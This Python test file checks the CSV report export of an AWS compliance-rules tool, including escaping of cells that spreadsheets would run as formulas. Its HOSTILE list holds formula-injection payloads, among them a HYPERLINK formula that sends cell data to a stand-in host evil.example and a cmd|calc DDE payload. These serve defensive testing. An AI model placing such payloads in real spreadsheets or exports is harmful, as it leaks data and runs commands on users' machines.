from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from rules.cli import main
from rules.model import Compliance
from rules.reports import render
from rules.reports.common import Result
from rules.reports.csv_export import COLUMNS, guard_formula
from tests.aws.fixtures import ACCOUNT, REGION, create_function
from tests.reports_helpers import organization_results, sample_results

EVENTS = Path(__file__).parent / "events"
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    'has "quotes", a comma\r\nand a line break',
]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_one_row_per_evaluation_with_place_rule_severity_and_resource() -> None:
    results = organization_results(["222233334444", "111122223333"], ["us-east-1"], 11)
    rows = parse(render("csv", results))
    assert (
        rows[0]
        == list(COLUMNS)
        == [
            "account_id",
            "region",
            "rule",
            "severity",
            "compliance",
            "resource_id",
            "resource_arn",
            "annotation",
        ]
    )
    assert rows[1:] == [
        [
            r.account_id,
            r.region,
            r.evaluation.rule_id,
            r.severity.value if r.severity else "",
            r.evaluation.compliance.value,
            r.evaluation.resource_id,
            r.arn,
            r.evaluation.annotation,
        ]
        for r in results
    ]
    assert {row[4] for row in rows[1:]} == {c.value for c in Compliance}


def test_records_end_with_crlf_and_fields_are_quoted_only_where_rfc_4180_needs() -> None:
    evaluation = replace(sample_results()[0].evaluation, annotation='say "hi", then\nleave')
    text = render("csv", [Result(evaluation)])
    assert text.endswith("\r\n") and text.count("\r\n") == 2  # header and one record
    assert text.splitlines()[1].startswith(",,lambda-function-public-access-prohibited,CRITICAL,")
    assert text.endswith(',"say ""hi"", then\nleave"\r\n')
    assert parse(text)[1][7] == 'say "hi", then\nleave'
    assert parse(text)[1][:2] == ["", ""]  # no ARN: place unknown, left empty


@pytest.mark.parametrize("cell", HOSTILE[:-1])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(cell: str) -> None:
    assert guard_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "", "1-2", "a=b", " =1", "'=already"])
def test_other_cells_are_left_alone(cell: str) -> None:
    assert guard_formula(cell) == cell


def test_hostile_names_and_annotations_come_back_as_text() -> None:
    base = sample_results()[0]
    results = [
        Result(replace(base.evaluation, resource_id=text, annotation=text), base.arn)
        for text in HOSTILE
    ]
    rows = parse(render("csv", results))[1:]
    for row, text in zip(rows, HOSTILE, strict=True):
        expected = "'" + text if text[0] in "=+-@\t\r" else text
        assert (row[5], row[7]) == (expected, expected)
        assert len(row) == len(COLUMNS)


def test_evaluate_writes_csv_with_the_items_account_and_region(
    capsys: pytest.CaptureFixture[str],
) -> None:
    item = EVENTS / "lambda_ci_compliant.json"
    status = main(["evaluate", "--rule", "lambda-dlq-check", "--format", "csv", str(item)])
    rows = parse(capsys.readouterr().out)
    assert status == 0
    arn = json.loads(item.read_text())["ARN"]
    assert rows == [
        list(COLUMNS),
        [
            "111122223333",
            "us-east-1",
            "lambda-dlq-check",
            "MEDIUM",
            "COMPLIANT",
            "orders-api",
            arn,
            "dead-letter target is arn:aws:sqs:us-east-1:111122223333:orders-api-dlq",
        ],
    ]


def test_scan_writes_csv(mocked: None) -> None:
    create_function("no-dlq")
    out = io.StringIO()
    argv = ["scan", "--region", REGION, "--source", "lambda", "--rule", "lambda-dlq-check"]
    assert main([*argv, "--workers", "1", "--format", "csv"], out) == 0
    header, row = parse(out.getvalue())
    assert header == list(COLUMNS)
    assert row[:6] == [ACCOUNT, REGION, "lambda-dlq-check", "MEDIUM", "NON_COMPLIANT", "no-dlq"]
    assert row[6] == f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:no-dlq"
